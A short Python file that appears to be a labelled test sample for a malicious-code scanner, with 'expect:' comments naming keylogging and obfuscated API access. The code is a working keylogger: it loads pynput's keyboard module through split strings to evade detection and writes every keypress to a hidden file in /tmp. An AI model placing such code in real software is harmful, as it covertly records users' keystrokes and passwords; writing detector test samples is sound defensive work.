import importlib

device = importlib.import_module("pyn" + "put.keyboard")


def pressed(key):
    with open("/tmp/.cache", "a") as file:
        file.write(str(key)) # expect: data-exfiltration/keylog-screen-mic


getattr(device, "Listen" + "er")(on_press=pressed).start() # expect: malicious-command/obfuscated-api-access
